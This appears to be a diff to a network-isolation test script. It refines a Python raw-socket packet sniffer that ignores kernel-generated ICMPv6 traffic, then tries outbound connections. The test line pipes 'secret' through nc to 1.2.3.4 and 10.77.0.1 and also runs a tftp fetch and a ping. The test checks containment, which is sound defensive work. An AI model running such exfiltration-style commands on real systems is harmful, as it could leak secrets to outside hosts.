@@ -139,7 +139,9 @@ import socket, sys
 s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.ntohs(3))
 while True:
     data, address = s.recvfrom(4096)
-    if address[1] == 0x0800 or (address[1] == 0x86dd and data[6] != 58):  # not ICMPv6, which the kernel itself sends
+    # not ICMPv6, which the kernel itself sends, multicast reports with a hop-by-hop header before it
+    kernel = address[1] == 0x86dd and (data[6] == 58 or (data[6] == 0 and data[40] == 58))
+    if address[1] in (0x0800, 0x86dd) and not kernel:
         print(address, data.hex(), flush=True)' </dev/null >"$WORK/outside-packets" 2>&1 3>&- &
     sleep 0.3
     script_is 'echo secret | nc -w 3 1.2.3.4 443; echo secret | nc -w 3 10.77.0.1 443; timeout 3 tftp -g -r file 1.2.3.4 53; ping -c 1 -W 1 10.77.0.1; exit 0'
